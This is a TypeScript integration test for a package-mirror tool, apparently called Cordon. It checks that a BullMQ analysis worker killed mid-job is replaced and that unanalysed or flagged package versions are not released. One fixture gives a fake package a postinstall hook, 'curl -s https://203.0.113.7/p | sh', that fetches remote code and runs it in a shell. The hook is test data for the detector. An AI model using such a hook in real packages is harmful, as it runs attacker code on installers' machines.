import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Queue } from 'bullmq';
import { startTestMirror, DAY, HOUR, type TestMirror, visibleVersions } from '../helpers/mirror';
import { redisConnection } from '../../server/pipeline/bullmq-connection';

const REDIS_URL = process.env.CORDON_TEST_REDIS_URL ?? 'redis://127.0.0.1:6379';
const NOW = Date.parse('2026-11-20T12:00:00Z');
const WORKER = join(__dirname, '..', '..', 'server', 'pipeline', 'worker-main.js');
const queueName = `cordon-test-${process.pid}-${Date.now().toString(36)}`;
const cwd = mkdtempSync(join(tmpdir(), 'cordon-worker-'));

function startWorker(): ChildProcess {
  const env = { PATH: process.env.PATH, REDIS_URL, CORDON_QUEUE: queueName, CORDON_ANALYSIS_LOCK: '2s', CORDON_ANALYSIS_CONCURRENCY: '1' };
  const child = spawn(process.execPath, [WORKER], { cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
  child.stdout!.resume();
  child.stderr!.resume();
  return child;
}

async function until(what: string, check: () => boolean | Promise<boolean>, ms = 30_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

const versionsOf = visibleVersions;

let m: TestMirror;
const workers: ChildProcess[] = [];

before(async () => {
  m = await startTestMirror({ now: NOW, env: { REDIS_URL, CORDON_QUEUE: queueName } });
});

after(async () => {
  for (const w of workers) if (w.exitCode === null) w.kill('SIGKILL');
  await m?.stop();
  const connection = redisConnection(REDIS_URL);
  const queue = new Queue(queueName, { connection });
  await queue.obliterate({ force: true });
  await queue.close();
  await connection.quit();
  rmSync(cwd, { recursive: true, force: true });
});

test('on BullMQ, a worker in another process analyses; killed mid-job, the job completes on a new worker and nothing is released unanalysed', async () => {
  assert.equal(m.mirror.pipeline.kind, 'bullmq');
  m.upstream.publish('bull-lib', '1.0.0', { time: NOW - 30 * DAY });
  m.upstream.publish('bull-lib', '1.0.1', { time: NOW - HOUR });
  m.upstream.publish('bull-lib', '1.0.2', { time: NOW - HOUR, scripts: { postinstall: 'curl -s https://203.0.113.7/p | sh' } });
  m.upstream.tarballDelayMs = 60_000;

  const first = startWorker();
  workers.push(first);
  await fetch(`${m.mirror.url}bull-lib`);
  await until('the worker to start fetching a tarball', () => m.upstream.requests.some((r) => /bull-lib-1\.0\.[12]\.tgz/.test(r)));
  first.kill('SIGKILL');
  await new Promise((r) => first.once('exit', r));

  m.clock.advance(10 * DAY);
  assert.deepEqual(await versionsOf(`${m.mirror.url}bull-lib`), ['1.0.0'], 'cooldown over but not analysed: hidden');
  assert.equal((await m.mirror.runtime.store.versions.versionOf('bull-lib', '1.0.1'))?.analysis, 'pending');

  m.upstream.tarballDelayMs = 0;
  workers.push(startWorker());
  await until(
    'both analyses to finish',
    async () => {
      const store = m.mirror.runtime.store;
      return (
        (await store.versions.versionOf('bull-lib', '1.0.1'))?.analysis !== 'pending' &&
        (await store.versions.versionOf('bull-lib', '1.0.2'))?.analysis !== 'pending'
      );
    },
    45_000,
  );
  const store = m.mirror.runtime.store;
  assert.equal((await store.versions.versionOf('bull-lib', '1.0.1'))?.analysis, 'clean');
  assert.equal((await store.versions.versionOf('bull-lib', '1.0.2'))?.state, 'held');
  assert.deepEqual(await versionsOf(`${m.mirror.url}bull-lib`), ['1.0.0', '1.0.1']);
  const res = await fetch(`${m.mirror.url}bull-lib/-/bull-lib-1.0.2.tgz`);
  assert.equal(res.status, 403);
  assert.match(((await res.json()) as { error: string }).error, /held by Cordon for review: analysis found/);
  assert.deepEqual((await m.mirror.runtime.store.jobs.counts()).active, 0);
});
